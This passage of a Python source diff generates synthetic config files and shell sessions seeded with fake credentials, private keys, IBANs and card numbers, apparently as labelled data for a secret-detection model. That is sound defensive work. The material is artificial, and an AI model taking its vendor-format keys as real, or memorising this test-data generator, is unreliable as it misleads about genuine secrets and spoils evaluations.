+    return b30_generic(r) if t == "GENERIC_SECRET" else b30_vendor(r, t)
+
+
+B30_ENVNAME = {"AWS_ACCESS_KEY": "AWS_ACCESS_KEY_ID", "GITHUB_TOKEN": "GITHUB_TOKEN", "SLACK_TOKEN": "SLACK_BOT_TOKEN",
+               "STRIPE_KEY": "STRIPE_SECRET_KEY", "OPENAI_KEY": "OPENAI_API_KEY", "ANTHROPIC_KEY": "ANTHROPIC_API_KEY",
+               "GOOGLE_API_KEY": "GOOGLE_MAPS_API_KEY", "JWT": "SERVICE_JWT", "GENERIC_SECRET": "API_SECRET"}
+
+
+def b30_envname(s):
+    return B30_ENVNAME[s.typ]
+
+
+# Private keys: DER-looking bodies (real ASN.1 prefixes, random key material), armoured in several ways.
+B30_KEYHDR = {"RSA PRIVATE KEY": ("308204a40201000282010100", 1180),
+              "PRIVATE KEY": ("308204be020100300d06092a864886f70d0101010500048204a8308204a40201000282010100", 1170),
+              "EC PRIVATE KEY": ("30770201010420", 106), "ENCRYPTED PRIVATE KEY": ("308205263050", 1300),
+              "OPENSSH PRIVATE KEY": ("6f70656e7373682d6b65792d763100000000", 380)}
+
+
+def b30_keyblock(r, kind=None):
+    kind = kind or r.choice(["RSA PRIVATE KEY", "PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY"])
+    hx, n = B30_KEYHDR[kind]
+    raw = bytes.fromhex(hx) + bytes(r.randrange(256) for _ in range(n))
+    b = base64.b64encode(raw).decode()
+    width = 70 if kind == "OPENSSH PRIVATE KEY" else 64
+    return kind, [b[i:i + width] for i in range(0, len(b), width)]
+
+
+def b30_key(r, form="armour", kind=None, indent=""):
+    kind, lines = b30_keyblock(r, kind)
+    head, tail = f"-----BEGIN {kind}-----", f"-----END {kind}-----"
+    if form == "armour":
+        v = "\n".join([head] + [indent + x for x in lines] + [indent + tail]) if indent else "\n".join([head] + lines + [tail])
+    elif form == "escaped":
+        v = "\\n".join([head] + lines + [tail])
+    else:  # one line, blocks separated by spaces (what a JSON string or a pasted env var holds)
+        v = " ".join([head] + lines + [tail])
+    return B30L("PRIVATE_KEY", v)
+
+
+def b30_pgpkey(r):
+    raw = bytes([0x95, 0x03, 0xc6, 0x04]) + bytes(r.randrange(256) for _ in range(r.choice([600, 900])))
+    b = base64.b64encode(raw).decode()
+    crc = base64.b64encode(bytes(r.randrange(256) for _ in range(3))).decode()
+    v = "\n".join(["-----BEGIN PGP PRIVATE KEY BLOCK-----", ""] + [b[i:i + 64] for i in range(0, len(b), 64)] +
+                  ["=" + crc, "-----END PGP PRIVATE KEY BLOCK-----"])
+    return B30L("PRIVATE_KEY", v)
+
+
+def b30_cert(r):
+    """A public certificate (never labelled)."""
+    b = base64.b64encode(bytes.fromhex("308203") + bytes(r.randrange(256) for _ in range(r.choice([420, 600])))).decode()
+    return "\n".join(["-----BEGIN CERTIFICATE-----"] + [b[i:i + 64] for i in range(0, len(b), 64)] + ["-----END CERTIFICATE-----"])
+
+
+B30_PH = ["AKIAIOSFODNN7EXAMPLE", "AKIAEXAMPLEKEY000001", "ASIAXXXXXXXXXXXXXXXX",
+          "ghp_" + "EXAMPLE" + "0" * 29, "ghp_" + "x" * 36, "ghs_" + "X" * 36, "github_pat_11EXAMPLE000000000000_" + "x" * 59,
+          "xoxb-000000000000-0000000000000-" + "x" * 24, "xoxp-YOUR-USER-TOKEN-0000000000000000", "xoxb-123456789012-1234567890123-EXAMPLEexampleEXAMPLE1234",
+          "sk_test_" + "X" * 24, "sk_live_EXAMPLE" + "0" * 17, "rk_test_yourRestrictedKeyHere0000",
+          "sk-proj-" + "X" * 48, "sk-proj-your-key-here-" + "0" * 26, "sk-" + "x" * 48,
+          "sk-ant-api03-" + "x" * 93 + "AA", "sk-ant-api03-YOUR_KEY_HERE-" + "0" * 79 + "AA",
+          "AIzaSy" + "X" * 33, "AIzaSyEXAMPLE-EXAMPLE-EXAMPLE-EXAMPL",
+          "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+          "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJleGFtcGxlIn0.EXAMPLE-SIGNATURE-EXAMPLE-SIGNATURE-0000000"]
+B30_STAND = ["<your-token>", "xxxx", "${API_KEY}", "changeme", "********", "sk-...", "REDACTED", "<redacted>", "YOUR_KEY_HERE",
+             "{{ secrets.API_TOKEN }}", "%API_KEY%", "$(cat /run/secrets/api_key)", "***", "[hidden]", "TODO", "<paste key here>",
+             "${{ secrets.DEPLOY_KEY }}", "ghp_...", "xoxb-...", "AKIA...", "<set in vault>", "not-a-real-key"]
+
+
+def b30_ph(r):
+    return B30L("PLACEHOLDER", r.choice(B30_PH))
+
+
+# ---------- blind30 look-alikes (never labelled) ----------
+
+def b30_ean13(r):
+    d = rnd(r, string.digits, 12)
+    s = sum(int(c) * (3 if i % 2 else 1) for i, c in enumerate(d))
+    return d + str((10 - s % 10) % 10)
+
+
+def b30_imei(r):
+    d = r.choice(["35", "86", "01", "49"]) + rnd(r, string.digits, 12)
+    return d + b30_luhn_digit(d)
+
+
+def b30_badcard(r):
+    pre, n = r.choice(B30_IINS)
+    if pre == "2300":
+        pre = "2223"
+    return bad_luhn(r, pre, n)
+
+
+def b30_badiban(r, loc):
+    v = b30_iban_raw(r, r.choice(B30_IBAN_HOME[loc]))
+    i = r.randrange(4, len(v))
+    c = v[i]
+    while v[i] == c:
+        c = r.choice(string.digits) if v[i].isdigit() else r.choice(string.ascii_uppercase)
+    v = v[:i] + c + v[i + 1:]
+    return " ".join(v[j:j + 4] for j in range(0, len(v), 4)) if r.random() < 0.6 else v
+
+
+def b30_la(r, loc="en_US", k=None):
+    k = r.randrange(26) if k is None else k
+    if k == 0: return f"ORD-{r.randint(2024, 2026)}-{r.randint(1, 999999):06d}"
+    if k == 1: return f"INC{r.randint(0, 9999999):07d}"
+    if k == 2: return f"RE-2026-{r.randint(1, 99999):05d}"
+    if k == 3: return f"v{r.randint(1, 9)}.{r.randint(0, 40)}.{r.randint(0, 20)}"
+    if k == 4: return f"{r.randint(23, 26)}.{r.randint(1, 12)}.{r.randint(0, 9)}.{r.randint(1000, 9999)}"
+    if k == 5: return b30_ts(r)
+    if k == 6: return str(B30_EPOCH - r.randint(0, 10 ** 6)) + rnd(r, string.digits, 3)
+    if k == 7: return rnd(r, HEX, 40)
+    if k == 8: return rnd(r, HEX, 64)
+    if k == 9: return "-".join([rnd(r, HEX, 8), rnd(r, HEX, 4), "4" + rnd(r, HEX, 3), r.choice("89ab") + rnd(r, HEX, 3), rnd(r, HEX, 12)])
+    if k == 10: return b30_card_fmt(r, b30_badcard(r))
+    if k == 11: return b30_badiban(r, loc)
+    if k == 12: return f"**** **** **** {r.randint(0, 9999):04d}"
+    if k == 13: return f"XXX-XX-{r.randint(1, 9999):04d}"
+    if k == 14: return b30_ean13(r)
+    if k == 15: return b30_imei(r)
+    if k == 16: return "1Z" + rnd(r, string.ascii_uppercase + string.digits, 16)
+    if k == 17: return ":".join(rnd(r, HEX, 2) for _ in range(6))
+    if k == 18: return f"PNR {rnd(r, 'ABCDEFGHJKLMNPQRSTUVWXYZ', 6)}"
+    if k == 19: return f"CS-{r.randint(100000, 999999)}"
+    if k == 20: return f"PO-{r.randint(4500000000, 4599999999)}"
+    if k == 21: return f"build #{r.randint(100, 9999)}"
+    if k == 22: return f"{r.randint(1, 28):02d}/{r.randint(1, 12):02d}/2026"
+    if k == 23: return f"JJD{rnd(r, string.digits, 18)}"
+    if k == 24: return "sha256:" + rnd(r, HEX, 64)
+    return f"{r.randint(1000, 9999)} {r.randint(1000, 9999)} {r.randint(1000, 9999)}"
+
+
+def b30_stand(r):
+    return r.choice(B30_STAND)
+
+
+class B30C:
+    """Per-document context: the faker, the random stream, the locale, and shortcuts to the generators."""
+    def __init__(self, f, r, loc):
+        self.f, self.r, self.loc, self.lang = f, r, loc, loc[:2]
+        self.first, self.last = f.first_name(), f.last_name()
+        self.name = f"{self.first} {self.last}"
+
+    def em(self, **k): return b30_email(self.f, self.r, self.loc, **k)
+    def myem(self): return b30_email(self.f, self.r, self.loc, first=self.first, last=self.last)
+    def ph(self, **k): return b30_phone(self.r, self.loc, **k)
+    def ip4(self, k=None): return b30_ip4(self.r, k)
+    def ip6(self, k=None): return b30_ip6(self.r, k)
+    def pw(self, safe=False): return b30_pw(self.r, self.lang, safe)
+    def dob(self, style=None): return b30_dob(self.r, self.loc, style)
+    def gen(self, k=None): return b30_generic(self.r, k)
+    def v(self, typ): return b30_vendor(self.r, typ)
+    def sec(self, pool=None): return b30_sec(self.r, pool)
+    def card(self, style=None): return b30_card(self.r, style)
+    def cvc(self, c=None): return b30_cvc(self.r, c)
+    def iban(self, cc=None, style=None): return b30_iban(self.r, self.loc, cc, style)
+    def ssn(self, style=None): return b30_ssn(self.r, style)
+    def phd(self): return b30_ph(self.r)
+    def key(self, form="armour", kind=None, indent=""): return b30_key(self.r, form, kind, indent)
+    def la(self, k=None): return b30_la(self.r, self.loc, k)
+    def st(self): return b30_stand(self.r)
+    def ts(self, fmt="iso", back=20): return b30_ts(self.r, fmt, back)
+    def city(self): return self.r.choice(B30_CITY[self.loc])
+    def street(self): return self.f.street_address().replace("\n", ", ")
+    def person(self): return f"{self.f.first_name()} {self.f.last_name()}"
+    def host(self): return self.r.choice(["db01", "pg-primary", "cache-2", "bastion", "web-03", "nas", "gw", "mail", "k8s-node-4", "ci-runner-7"]) + "." + \
+        self.r.choice(["internal", "corp.lan", "prod.local", "eu-west-1.compute.internal", "home.arpa"])
+    def pick(self, *a): return self.r.choice(a)
+
+
+# ---------- blind30 text documents: config files ----------
+
+def b30_t_nextcloud(c):
+    return b30_fill("""<?php
+$CONFIG = array (
+  'instanceid' => 'oc«iid»',
+  'passwordsalt' => '«salt»',
+  'secret' => '«sec»',
+  'trusted_domains' =>
+  array (
+    0 => 'cloud.«dom»',
+    1 => '«ip»',
+  ),
+  'datadirectory' => '/var/www/nextcloud/data',
+  'dbtype' => 'mysql',
+  'version' => '«ver»',
+  'dbhost' => '«dbip»:3306',
+  'dbuser' => 'nextcloud',
+  'dbpassword' => '«pw»',
+  'mail_from_address' => 'noreply',
+  'mail_smtphost' => 'smtp.«dom»',
+  'mail_smtpname' => '«em»',
+  'mail_smtppassword' => '«pw2»',
+  'maintenance' => false,
+);
+""", iid=rnd(c.r, "abcdefghijklmnopqrstuvwxyz0123456789", 10), salt=c.gen("b64"), sec=c.gen("b64"), dom=c.pick(*B30_ORGDOM),
+        ip=c.ip4("p192"), ver=f"29.0.{c.r.randint(0, 9)}.{c.r.randint(1, 3)}", dbip=c.ip4("p10"), pw=c.pw(safe=True), em=c.myem(),
+        pw2=c.pw(safe=True))
+
+
+def b30_t_grafana(c):
+    return b30_fill("""# grafana.ini (excerpt) -- «note»
+[server]
+http_addr = «ip»
+root_url = https://grafana.«dom»/
+
+[database]
+type = postgres
+host = «dbip»:5432
+user = grafana
+password = «pw»
+
+[security]
+admin_user = admin
+admin_password = «apw»
+secret_key = «sk»
+
+[smtp]
+enabled = true
+host = smtp.«dom»:587
+user = «em»
+password = «spw»
+from_address = grafana@«dom»
+
+[auth.google]
+client_id = «cid».apps.googleusercontent.com
+client_secret = «cs»
+""", note=c.pick("do not commit", "copied from prod box", "nach Upgrade auf 11.4", "version " + c.la(3)), ip=c.ip4("p10"), dom=c.pick(*B30_ORGDOM),
+        dbip=c.ip4("p172"), pw=c.pw(), apw=c.pw(), sk=c.gen(c.pick("hex32", "b64")), em=c.em(), spw=c.pw(),
+        cid=f"{c.r.randint(10 ** 11, 10 ** 12)}-{rnd(c.r, string.ascii_lowercase + string.digits, 32)}", cs="GOCSPX-" + rnd(c.r, AN + "_-", 28))
+
+
+def b30_t_alertmanager(c):
+    fe = c.em(org=c.pick(*B30_ORGDOM))
+    return b30_fill("""global:
+  smtp_smarthost: 'smtp.«dom»:587'
+  smtp_from: '«fr»'
+  smtp_auth_username: '«fr2»'
+  smtp_auth_password: '«pw»'
+  opsgenie_api_key: «og»
+route:
+  receiver: oncall
+  group_wait: 30s
+receivers:
+  - name: oncall
+    email_configs:
+      - to: '«to»'
+    pagerduty_configs:
+      - routing_key: «pd»
+    slack_configs:
+      - api_url_file: /etc/alertmanager/slack_url
+        channel: '#alerts-«team»'
+        http_config:
+          authorization:
+            credentials: «sl»
+""", dom=c.pick(*B30_ORGDOM), fr=fe, fr2=fe, pw=c.pw(safe=True),
+        og=c.gen("hex32"), to=c.em(), pd=c.gen("hex32"), team=c.pick("payments", "infra", "data", "edge"), sl=c.v("SLACK_TOKEN"))
+
+
+def b30_t_prometheus(c):
+    return b30_fill("""scrape_configs:
+  - job_name: node
+    static_configs:
+      - targets: ['«a»:9100', '«b»:9100', '[«v6»]:9100']
+  - job_name: federate
+    scheme: https
+    basic_auth:
+      username: prom
+      password: «pw»
+    static_configs:
+      - targets: ['prom.«dom»']
+  - job_name: app
+    authorization:
+      type: Bearer
+      credentials: «jwt»
+    metrics_path: /internal/metrics
+    static_configs:
+      - targets: ['«c»:8080']   # «la»
+""", a=c.ip4("p10"), b=c.ip4("p10"), v6=c.ip6("ula"), pw=c.pw(safe=True), dom=c.pick(*B30_ORGDOM), jwt=c.v("JWT"), c=c.ip4("p172"), la=c.la(3))
+
+
+def b30_t_wpa(c):
+    return b30_fill("""ctrl_interface=DIR=/var/run/wpa_supplicant GROUP=netdev
+update_config=1
+country=«cc»
+
+network={
+    ssid="«ssid»"
+    psk="«psk»"
+    key_mgmt=WPA-PSK
+    priority=10
+}
+
+network={
+    ssid="eduroam"
+    key_mgmt=WPA-EAP
+    eap=PEAP
+    identity="«ident»"
+    password="«pw»"
+    phase2="auth=MSCHAPV2"
+}
+""", cc=REGION[c.loc], ssid=c.pick("FRITZ!Box 7590 XY", "Livebox-" + rnd(c.r, "ABCDEF0123456789", 4), "BTHub6-" + rnd(c.r, "ABCDEFGH", 4),
+                                     "Ziggo" + rnd(c.r, string.digits, 7), "TIM-" + rnd(c.r, string.digits, 8), "MOVISTAR_" + rnd(c.r, "ABCDEF0123456789", 4)),
+        psk=c.pw(safe=True), ident=c.em(org=c.pick("uni-" + b30_ascii(c.city())[:5] + ".de", "student.tudelft.nl", "ed.ac.uk", "unibo.it")), pw=c.pw(safe=True))
+
+
+def b30_t_rclone(c):
+    return b30_fill("""[s3-backup]
+type = s3
+provider = AWS
+access_key_id = «ak»
+secret_access_key = «sk»
+region = eu-central-1
+
+[b2]
+type = b2
+account = «acct»
+key = «b2key»
+
+[nas]
+type = sftp
+host = «ip»
+user = backup
+pass = «obsc»
+# ^ rclone-obscured, not the real password
+
+[wasabi]
+type = s3
+provider = Wasabi
+access_key_id = «wk»
+secret_access_key = «ws»
+""", ak=c.v("AWS_ACCESS_KEY"), sk=c.gen("awssec"), acct=rnd(c.r, HEX, 12), b2key=B30L("GENERIC_SECRET", "K00" + rnd(c.r, AN, 28)),
+        ip=c.ip4("p192"), obsc=rnd(c.r, AN + "_-", 32), wk=rnd(c.r, string.ascii_uppercase + string.digits, 20), ws=c.gen("awssec"))
+
+
+def b30_t_expo(c):
+    return b30_fill("""// app.config.ts
+export default {
+  name: "«app»",
+  slug: "«slug»",
+  version: "«ver»",
+  ios: { bundleIdentifier: "com.«slug».app", config: { googleMapsApiKey: "«g1»" } },
+  android: {
+    package: "com.«slug».app",
+    versionCode: «vc»,
+    config: { googleMaps: { apiKey: "«g2»" } },
+  },
+  extra: {
+    eas: { projectId: "«uuid»" },
+    sentryAuthToken: "«sen»",
+    supportPhone: "«ph»",
+  },
+};
+""", app=c.pick("Parkly", "FoodDrop", "Rondo", "KitaPlan", "Marea"), slug=c.pick("parkly", "fooddrop", "rondo", "kitaplan", "marea"), ver=c.la(3)[1:],
+        g1=c.v("GOOGLE_API_KEY"), g2=c.pick(c.v("GOOGLE_API_KEY"), c.phd()), vc=c.r.randint(10, 400), uuid=c.la(9), sen=c.gen("sentry"), ph=c.ph())
+
+
+def b30_t_esp32(c):
+    return b30_fill("""// secrets.h -- «note»
+#pragma once
+#define WIFI_SSID     "«ssid»"
+#define WIFI_PASSWORD "«wp»"
+#define MQTT_HOST     "«ip»"
+#define MQTT_USER     "sensor-«n»"
+#define MQTT_PASS     "«mp»"
+#define THINGNAME     "greenhouse-«n»"
+
+static const char AWS_CERT_CA[] PROGMEM = R"EOF(
+«ca»
+)EOF";
+
+static const char AWS_CERT_PRIVATE[] PROGMEM = R"KEY(
+«key»
+)KEY";
+""", note=c.pick("NICHT einchecken!", "don't commit", "ne pas versionner", "non committare"), ssid=c.pick("Gewaechshaus", "Serre-Nord", "Greenhouse"),
+        wp=c.pw(safe=True), ip=c.ip4("p192"), n=c.r.randint(1, 40), mp=c.pw(safe=True), ca=b30_cert(c.r), key=c.key("armour", c.pick("RSA PRIVATE KEY", "EC PRIVATE KEY")))
+
+
+def b30_t_z2m(c):
+    return b30_fill("""# zigbee2mqtt/configuration.yaml
+homeassistant: true
+permit_join: false
+mqtt:
+  base_topic: zigbee2mqtt
+  server: mqtt://«ip»:1883
+  user: z2m
+  password: «pw»
+serial:
+  port: /dev/ttyUSB0
+advanced:
+  network_key: [«nk»]
+  pan_id: «pan»
+  ext_pan_id: [«ext»]
+frontend:
+  port: 8080
+  auth_token: «tok»
+""", ip=c.ip4("p192"), pw=c.pw(safe=True), nk=", ".join(str(c.r.randint(1, 255)) for _ in range(16)), pan=c.r.randint(1000, 65000),
+        ext=", ".join(str(c.r.randint(1, 255)) for _ in range(8)), tok=c.gen(c.pick("hex32", "b64")))
+
+
+def b30_t_kubeconfig(c):
+    return b30_fill("""apiVersion: v1
+kind: Config
+clusters:
+- cluster:
+    certificate-authority-data: «ca»
+    server: https://«ip»:6443
+  name: «cl»
+contexts:
+- context:
+    cluster: «cl»
+    user: «u»
+  name: «cl»
+current-context: «cl»
+users:
+- name: «u»
+  user:
+    token: «jwt»
+""", ca=base64.b64encode(b30_cert(c.r).encode()[:300]).decode(), ip=c.ip4(c.pick("pub", "p10")), cl=c.pick("prod-eu", "staging", "k3s-home", "aks-weu-01"),
+        u=c.pick("admin", "ci-deployer", "oidc-user"), jwt=c.v("JWT"))
+
+
+def b30_t_gitlabrunner(c):
+    return b30_fill("""concurrent = 4
+check_interval = 0
+
+[[runners]]
+  name = "«name»"
+  url = "https://gitlab.«dom»/"
+  token = "«tok»"
+  executor = "docker"
+  environment = ["AWS_ACCESS_KEY_ID=«ak»", "AWS_SECRET_ACCESS_KEY=«sk»", "REGISTRY_PASSWORD=«rp»"]
+  [runners.docker]
+    image = "alpine:3.20"
+    privileged = true
+    dns = ["«dns»"]
+""", name=c.pick("runner-hetzner-01", "build-box", "mac-mini-ci"), dom=c.pick(*B30_ORGDOM), tok=B30L("GENERIC_SECRET", "glrt-" + rnd(c.r, AN + "_-", 20)),
+        ak=c.v("AWS_ACCESS_KEY"), sk=c.gen("awssec"), rp=c.pw(safe=True), dns=c.ip4("p10"))
+
+
+def b30_t_airflow(c):
+    return b30_fill("""export AIRFLOW__CORE__FERNET_KEY='«fk»'
+export AIRFLOW__WEBSERVER__SECRET_KEY='«wk»'
+export AIRFLOW_CONN_WAREHOUSE='postgresql://etl:«pw»@«ip»:5432/dwh'
+export AIRFLOW_CONN_SLACK_DEFAULT='slack://:«sl»@'
+export AIRFLOW_CONN_S3_RAW='aws://«ak»:«sk»@/?region_name=eu-west-1'
+export AIRFLOW_VAR_ALERT_EMAIL='«em»'
+airflow dags trigger nightly_load --conf '{"run": "«la»"}'
+""", fk=c.gen("b64"), wk=c.gen("hex32"), pw=c.pw(safe=True), ip=c.ip4("p10"), sl=c.v("SLACK_TOKEN"), ak=c.v("AWS_ACCESS_KEY"),
+        sk=B30L("GENERIC_SECRET", rnd(c.r, AN, 40)), em=c.em(), la=c.la(0))
+
+
+def b30_t_minecraft(c):
+    return b30_fill("""#Minecraft server properties
+#«when»
+enable-rcon=true
+rcon.password=«pw»
+rcon.port=25575
+server-ip=«ip»
+server-port=25565
+motd=«motd»
+white-list=true
+max-players=«n»
+level-seed=«seed»
+# ops: «op»
+""", when=c.pick("Wed Dec 30 11:02:44 CET 2026", "Tue Dec 29 21:15:03 UTC 2026"), pw=c.pw(safe=True), ip=c.ip4("pub"),
+        motd=c.pick("Familienserver", "Serveur des copains", "Server de la peña", "Klas 3B server"), n=c.r.randint(8, 40),
+        seed=str(c.r.randint(-9 * 10 ** 18, 9 * 10 ** 18)), op=c.la(9))
+
+
+def b30_t_ipsec(c):
+    return b30_fill("""# /etc/ipsec.secrets - strongSwan IPsec secrets file
+: RSA vpn-gw.key
+«a» «b» : PSK "«psk»"
+«a6» «b6» : PSK "«psk2»"
+«user» : EAP "«pw»"
+# old peer «la» removed
+""", a=c.ip4("pub"), b=c.ip4("pub"), psk=c.gen(c.pick("b64", "hex64")), a6=c.ip6("glob"), b6=c.ip6("glob"), psk2=c.gen("b64"),
+        user=c.pick("jdoe", "road-warrior", c.first.lower()), pw=c.pw(safe=True), la=c.la(4))
+
+
+def b30_t_nxos(c):
+    return b30_fill("""!Command: show running-config
+!Running configuration last done at: «when»
+version «ver»
+hostname «hn»
+username admin password 5 $5$«salt»$«hash»  role network-admin
+username netops password 0 «pw» role network-operator
+snmp-server community «comm» group network-operator
+tacacs-server host «tac» key 0 «tk»
+ntp server «ntp» use-vrf management
+logging server «log» 6
+interface mgmt0
+  vrf member management
+  ip address «mgmt»/24
+interface Vlan20
+  ipv6 address «v6»/64
+""", when=b30_ts(c.r, "syslog"), ver=f"{c.r.randint(9, 10)}.{c.r.randint(2, 4)}({c.r.randint(1, 9)})", hn=c.pick("leaf-a1", "core-sw02", "dc2-spine1"),
+        salt=rnd(c.r, AN, 8), hash=rnd(c.r, AN + "./", 43), pw=c.pw(safe=True), comm=B30L("GENERIC_SECRET", rnd(c.r, AN, c.r.randint(10, 16))),
+        tac=c.ip4("p10"), tk=c.gen("hex32"), ntp=c.ip4("pub"), log=c.ip4("p10"), mgmt=c.ip4("p10"), v6=c.ip6("glob"))
+
+
+def b30_t_mikrotik(c):
+    return b30_fill("""# «when» by RouterOS 7.16
+# software id = «sid»
+/interface wireguard
+add listen-port=13231 mtu=1420 name=wg0 private-key="«wgk»"
+/interface wireguard peers
+add allowed-address=«peer»/32 interface=wg0 public-key="«pub»"
+/ip address
+add address=«lan»/24 interface=bridge
+/ip dns
+set servers=«dns»
+/ppp secret
+add name=«u» password=«pw» profile=default-encryption service=l2tp
+/user
+add group=full name=«admin» password=«pw2»
+""", when=b30_ts(c.r, "sql"), sid=rnd(c.r, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789", 4) + "-" + rnd(c.r, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789", 4),
+        wgk=B30L("GENERIC_SECRET", base64.b64encode(bytes(c.r.randrange(256) for _ in range(32))).decode()),
+        peer=c.ip4("p10"), pub=base64.b64encode(bytes(c.r.randrange(256) for _ in range(32))).decode(), lan=c.ip4("p192"), dns=c.ip4("pub"),
+        u=c.first.lower(), pw=c.pw(safe=True), admin=c.pick("backup", "noc", "support"), pw2=c.pw(safe=True))
+
+
+def b30_t_packer(c):
+    return b30_fill("""variable "region" { default = "eu-central-1" }
+
+source "amazon-ebs" "base" {
+  access_key    = "«ak»"
+  secret_key    = "«sk»"
+  region        = var.region
+  instance_type = "t3.small"
+  ssh_username  = "ubuntu"
+  ami_name      = "base-«ver»-{{timestamp}}"
+}
+
+source "vsphere-iso" "win" {
+  vcenter_server = "«ip»"
+  username       = "«em»"
+  password       = "«pw»"
+  winrm_password = "«wpw»"
+}
+""", ak=c.v("AWS_ACCESS_KEY"), sk=c.gen("awssec"), ver=c.la(4), ip=c.ip4("p10"), em=c.em(org="vsphere.local"), pw=c.pw(safe=True), wpw=c.pw(safe=True))
+
+
+def b30_t_vagrant(c):
+    return b30_fill("""Vagrant.configure("2") do |config|
+  config.vm.box = "generic/debian12"
+  config.vm.network "private_network", ip: "«ip»"
+  config.vm.network "public_network", ip: "«pub»", bridge: "en0"
+  config.ssh.username = "vagrant"
+  config.ssh.password = "«pw»"
+  config.vm.provision "shell", env: {
+    "GITHUB_TOKEN" => "«gh»",
+    "APP_ADMIN_EMAIL" => "«em»"
+  }, inline: "bash /vagrant/bootstrap.sh"
+end
+""", ip=c.ip4("p192"), pub=c.ip4("p192"), pw=c.pw(safe=True), gh=c.v("GITHUB_TOKEN"), em=c.em())
+
+
+def b30_t_salt(c):
+    return b30_fill("""# /srv/pillar/«app»/secrets.sls
+«app»:
+  db:
+    host: «ip»
+    password: «pw»
+  smtp:
+    user: «em»
+    password: «spw»
+  stripe_key: «sk»
+  tls_key: |
+    «key»
+""", app=c.pick("shop", "crm", "intranet", "ticketing"), ip=c.ip4("p10"), pw=c.pw(safe=True), em=c.em(), spw=c.pw(safe=True), sk=c.v("STRIPE_KEY"),
+        key=c.key("armour", indent="    "))
+
+
+def b30_t_insomnia(c):
+    return b30_fill("""_type: export
+__export_format: 4
+resources:
+  - _id: env_«id1»
+    _type: environment
+    name: «envn»
+    data:
+      base_url: https://«ip»:8443
+      token: «jwt»
+      openai_key: «ok»
+      user: «em»
+      password: «pw»
+  - _id: req_«id2»
+    _type: request
+    name: Create customer
+    url: "{{ _.base_url }}/v1/customers"
+    authentication: { type: bearer, token: "{{ _.token }}" }
+""", id1=rnd(c.r, HEX, 32), envn=c.pick("Staging", "Prod", "Local"), ip=c.ip4("p10"), jwt=c.v("JWT"), ok=c.pick(c.v("OPENAI_KEY"), c.phd()), em=c.em(),
+        pw=c.pw(safe=True), id2=rnd(c.r, HEX, 32))
+
+
+def b30_t_nginxauth(c):
+    return b30_fill("""upstream llm_backend {
+    server «a»:8000;
+    server [«v6»]:8000 backup;
+}
+server {
+    listen 443 ssl;
+    server_name ai.«dom»;
+    location /v1/ {
+        proxy_pass https://api.openai.com/v1/;
+        proxy_set_header Authorization "Bearer «ok»";
+        proxy_set_header X-Request-Id $request_id;
+    }
+    location /claude/ {
+        proxy_pass https://api.anthropic.com/;
+        proxy_set_header x-api-key «ak»;
+    }
+    allow «office»;
+    deny all;
+}
+""", a=c.ip4("p10"), v6=c.ip6("ula"), dom=c.pick(*B30_ORGDOM), ok=c.v("OPENAI_KEY"), ak=c.pick(c.v("ANTHROPIC_KEY"), c.phd()), office=c.ip4("pub"))
+
+
+# ---------- blind30 text documents: sessions ----------
+
+def b30_t_herokucfg(c):
+    s1 = c.sec(["STRIPE_KEY", "OPENAI_KEY", "GITHUB_TOKEN", "GOOGLE_API_KEY", "SLACK_TOKEN", "OPENAI_KEY"])
+    return b30_fill("""$ heroku config -a «app»
+=== «app» Config Vars
+DATABASE_URL:        postgres://«u»:«pw»@ec2-«ipd».eu-west-1.compute.amazonaws.com:5432/«db»
+«n1»: «s1»
+REDIS_URL:           rediss://:«rpw»@ec2-«ipd2».compute-1.amazonaws.com:«port»
+SENDGRID_API_KEY:    «sg»
+ANTHROPIC_API_KEY:   «ak»
+SENTRY_DSN:          https://«dsn»@o«org».ingest.sentry.io/«proj»
+SUPPORT_EMAIL:       «em»
+""", app=c.pick("shopfront-prod", "rondo-api", "kitaplan-web", "marea-worker"), u=rnd(c.r, string.ascii_lowercase, 14), pw=B30L("PASSWORD", rnd(c.r, HEX, 64)),
+        ipd="-".join(str(c.r.randint(3, 54)) for _ in range(4)), db=rnd(c.r, string.ascii_lowercase + string.digits, 14), n1=(b30_envname(s1) + ":").ljust(20), s1=s1,
+        rpw=B30L("PASSWORD", "p" + rnd(c.r, HEX, 63)), ipd2="-".join(str(c.r.randint(3, 54)) for _ in range(4)), port=c.r.randint(10000, 30000),
+        sg=c.gen("sendgrid"), ak=c.v("ANTHROPIC_KEY"), dsn=rnd(c.r, HEX, 32), org=c.r.randint(10 ** 5, 10 ** 6), proj=c.r.randint(10 ** 6, 10 ** 7), em=c.em())
+
+
+def b30_t_dockerinspect(c):
+    s1 = c.sec()
+    return b30_fill("""$ docker inspect «cid» --format '{{json .Config.Env}}' | jq .
+[
+  "POSTGRES_PASSWORD=«pw»",
+  "«n1»=«s1»",
+  "SMTP_FROM=«em»",
+  "SLACK_WEBHOOK_TOKEN=«sl»",
+  "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin",
+  "APP_VERSION=«ver»"
+]
+$ docker inspect «cid» -f '{{range .NetworkSettings.Networks}}{{.IPAddress}} {{.GlobalIPv6Address}}{{end}}'
+«ip» «v6»
+""", cid=rnd(c.r, HEX, 12), pw=c.pw(safe=True), n1=b30_envname(s1), s1=s1, em=c.em(), sl=c.v("SLACK_TOKEN"), ver=c.la(3), ip=c.ip4("p172"), v6=c.ip6("ula"))
+
+
+def b30_t_kdescribe(c):
+    return b30_fill("""$ kubectl -n «ns» describe pod «pod»
+Name:             «pod»
+Namespace:        «ns»
+Node:             «node»/«nip»
+Start Time:       «ts»
+Status:           Running
+IP:               «pip»
+IPs:
+  IP:  «pip»
+  IP:  «pv6»
+Containers:
+  app:
+    Image:          registry.«dom»/«ns»/app:«ver»
+    Environment:
+      DB_HOST:            «dbh»
+      DB_PASSWORD:        «pw»
+      ANTHROPIC_API_KEY:  «ak»
+      GOOGLE_API_KEY:     «gk»
+      STRIPE_SECRET_KEY:  <set to the key 'stripe' in secret 'payments'>  Optional: false
+""", ns=c.pick("checkout", "agents", "billing", "crm"), pod=c.pick("api", "worker", "gateway") + "-" + rnd(c.r, "bcdfghjklmnpqrstvwxz2456789", 10) + "-" +
